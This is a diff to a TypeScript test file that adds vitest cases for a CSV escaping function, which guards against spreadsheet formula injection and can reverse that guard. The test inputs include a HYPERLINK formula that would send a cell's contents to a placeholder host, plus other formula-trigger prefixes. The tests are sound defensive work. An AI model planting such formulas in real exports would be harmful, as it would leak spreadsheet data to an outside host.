@@ -1,6 +1,6 @@
 import { describe, expect, it } from "vitest";
 import { renderCasesCsv } from "./cases-csv.ts";
-import { csvField, toCsv } from "./csv.ts";
+import { csvField, toCsv, unguardCsvCell } from "./csv.ts";
 import { smallAnalysis, smallTriageAnalysis } from "./report.test-support.ts";
 
 describe("csvField", () => {
@@ -20,6 +20,46 @@ describe("csvField", () => {
       "true",
       "false",
     ]);
+  });
+});
+
+describe("csvField against spreadsheet formulas", () => {
+  it("prefixes a single quote to text a spreadsheet would run, and leaves numbers alone", () => {
+    expect(
+      [
+        "=1+1",
+        "+x",
+        "-x",
+        "@SUM(A1)",
+        "\tx",
+        "\rx",
+        '=HYPERLINK("http://h/"&A1,"y")',
+        "-0.5",
+        "+3",
+        -3,
+        1e-7,
+      ].map(csvField),
+    ).toEqual([
+      "'=1+1",
+      "'+x",
+      "'-x",
+      "'@SUM(A1)",
+      "'\tx",
+      '"\'\rx"',
+      '"\'=HYPERLINK(""http://h/""&A1,""y"")"',
+      "-0.5",
+      "+3",
+      "-3",
+      "1e-7",
+    ]);
+  });
+
+  it("is undone by unguardCsvCell, which leaves every other text as it is", () => {
+    for (const text of ["=1+1", "+x", "-x", "@x", "\tx", "'quoted", "'", "'=x", "'-0.5", "plain", "-0.5"]) {
+      const field = csvField(text);
+      const cell = field.startsWith('"') ? field.slice(1, -1).replace(/""/g, '"') : field;
+      expect(unguardCsvCell(cell)).toBe(text);
+    }
   });
 });
 
